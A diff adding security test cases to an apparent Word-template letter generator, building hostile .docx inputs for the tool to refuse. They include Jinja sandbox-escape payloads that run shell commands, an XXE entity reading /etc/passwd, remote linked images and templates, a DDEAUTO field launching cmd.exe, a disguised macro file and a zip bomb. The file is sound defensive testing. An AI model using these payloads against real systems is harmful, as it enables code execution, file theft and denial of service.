@@ -621,3 +621,178 @@ CASES += [
     Case("engines-misspelt-key", {"site_config/engine.yaml": "engnie: zensical\n"}),
     Case("engines-not-a-mapping", {"site_config/engine.yaml": "- zensical\n"}),
 ]
+
+# --- issue 30: a Word template is an untrusted document (it arrives by e-mail) ---------------------
+
+
+def word_with(changes: dict[str, bytes | None], base: bytes | None = None) -> bytes:
+    """A Word template with parts replaced, added (bytes) or removed (None)."""
+    import io
+    import zipfile
+
+    source = zipfile.ZipFile(io.BytesIO(base or word_template("致：{{ 客户名称 }}", "尚欠{{ 欠款合计 }}元。")))
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            if info.filename not in changes:
+                target.writestr(info.filename, source.read(info.filename))
+        for name, content in changes.items():
+            if content is not None:
+                target.writestr(name, content)
+    return buffer.getvalue()
+
+
+def _part(base: bytes, name: str) -> bytes:
+    import io
+    import zipfile
+
+    return zipfile.ZipFile(io.BytesIO(base)).read(name)
+
+
+def _with_relationship(kind: str, target: str, *, external: bool = True, part: str = "word/document.xml") -> bytes:
+    """A Word template whose ``part`` has one more relationship (as Word writes a linked picture,
+    an OLE object or an attached template)."""
+    base = word_template("致：{{ 客户名称 }}", "尚欠{{ 欠款合计 }}元。")
+    folder, _, name = part.rpartition("/")
+    rels_name = f"{folder}/_rels/{name}.rels"
+    try:
+        rels = _part(base, rels_name)
+    except KeyError:
+        rels = (
+            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
+        )
+    mode = ' TargetMode="External"' if external else ""
+    link = (
+        f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
+        f'Target="{target}"{mode}/>'
+    ).encode()
+    return word_with({rels_name: rels.replace(b"</Relationships>", link + b"</Relationships>")}, base)
+
+
+def _with_field(code: str) -> bytes:
+    base = word_template("致：{{ 客户名称 }}", "尚欠{{ 欠款合计 }}元。")
+    document = _part(base, "word/document.xml")
+    field = (
+        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {code} '
+        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    ).encode()
+    return word_with({"word/document.xml": document.replace(b"<w:sectPr", field + b"<w:sectPr", 1)}, base)
+
+
+def _macro_enabled() -> bytes:
+    """A .docm saved as .docx: the macro content type and word/vbaProject.bin."""
+    base = word_template("致：{{ 客户名称 }}")
+    types = _part(base, "[Content_Types].xml").replace(
+        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+        b"application/vnd.ms-word.document.macroEnabled.main+xml",
+    )
+    return word_with({"[Content_Types].xml": types, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 512}, base)
+
+
+def _with_doctype() -> bytes:
+    base = word_template("致：{{ 客户名称 }}")
+    document = _part(base, "word/document.xml")
+    head, body = document.split(b"?>", 1)
+    doctype = b'<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+    return word_with({"word/document.xml": head + b"?>" + doctype + body.replace("致：".encode(), b"&x;")}, base)
+
+
+def word_bomb() -> bytes:
+    """A Word template whose document.xml unpacks to 1 GiB from about 1 MB."""
+    import io
+    import zipfile
+
+    base = word_template("致：{{ 客户名称 }}")
+    source = zipfile.ZipFile(io.BytesIO(base))
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            if info.filename != "word/document.xml":
+                target.writestr(info.filename, source.read(info.filename))
+        with target.open("word/document.xml", "w", force_zip64=True) as part:
+            document = source.read("word/document.xml")
+            head, tail = document.split(b"<w:body>", 1)
+            part.write(head + b"<w:body>")
+            chunk = b"<w:p><w:r><w:t>" + b"a" * (1 << 20) + b"</w:t></w:r></w:p>"
+            for _ in range(1024):
+                part.write(chunk)
+            part.write(tail)
+    return buffer.getvalue()
+
+
+SANDBOX_ESCAPES = [
+    "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}"
+    "{{ c(['touch', 'pwned']) }}{% endif %}{% endfor %}",
+    "{{ self.__init__.__globals__.__builtins__.__import__('os').system('touch pwned') }}",
+    "{{ cycler.__init__.__globals__.os.popen('touch pwned').read() }}",
+    "{{ lipsum.__globals__['os'].popen('touch pwned').read() }}",
+    "{{ 客户名称|attr('__class__')|attr('__mro__') }}",
+    "{{ 客户名称.__class__.__base__.__subclasses__() }}",
+    "{{ '{0.__class__.__init__.__globals__}'.format(客户名称) }}",
+    "{% for 发票 in 发票明细 %}{{ loop.__class__.__init__.__globals__ }}{% endfor %}",
+    "{{ 发票明细.append(1) }}",
+]
+"""Known ways out of a plain Jinja environment; each must be refused and none may run."""
+
+CASES += [
+    Case(
+        "word-sandbox-escapes",
+        {"ar.csv": HEADER + ROW, WORD: word_template("致：{{ 客户名称 }}", *SANDBOX_ESCAPES)},
+        ["validate"],
+    ),
+    Case(
+        "word-sandbox-escape-letters",
+        {"ar.csv": HEADER + ROW, WORD: word_template("致：{{ 客户名称 }}", SANDBOX_ESCAPES[2])},
+        WORD_LETTERS,
+    ),
+    Case(
+        "word-linked-image",
+        {"ar.csv": HEADER + ROW, WORD: _with_relationship("image", "http://203.0.113.9/track.png")},
+        WORD_LETTERS,
+    ),
+    Case(
+        "word-linked-local-file",
+        {"ar.csv": HEADER + ROW, WORD: _with_relationship("image", "file:///etc/passwd")},
+        ["validate"],
+    ),
+    Case(
+        "word-ole-object",
+        {"ar.csv": HEADER + ROW, WORD: _with_relationship("oleObject", "embeddings/oleObject1.bin", external=False)},
+        ["validate"],
+    ),
+    Case(
+        "word-attached-template",
+        {
+            "ar.csv": HEADER + ROW,
+            WORD: _with_relationship("attachedTemplate", "http://203.0.113.9/normal.dotm", part="word/settings.xml"),
+        },
+        ["validate"],
+    ),
+    Case(
+        "word-includepicture-field", {WORD: _with_field('INCLUDEPICTURE "http://203.0.113.9/x.png" \\d')}, ["validate"]
+    ),
+    Case(
+        "word-ddeauto-field",
+        {WORD: _with_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')},
+        ["validate"],
+    ),
+    Case("word-renamed-docm", {"ar.csv": HEADER + ROW, WORD: _macro_enabled()}, WORD_LETTERS),
+    Case("word-doctype", {WORD: _with_doctype()}, ["validate"]),
+    Case("word-bomb", {"ar.csv": HEADER + ROW, WORD: word_bomb()}, WORD_LETTERS),
+    Case(
+        "word-tag-in-document-properties",
+        {
+            WORD: word_with(
+                {
+                    "docProps/core.xml": _part(word_template("致"), "docProps/core.xml").replace(
+                        b"</cp:coreProperties>",
+                        b"<dc:subject>{{ cycler.__init__.__globals__.os.popen('id').read() }}</dc:subject>"
+                        b"</cp:coreProperties>",
+                    )
+                }
+            )
+        },
+        ["validate"],
+    ),
+]
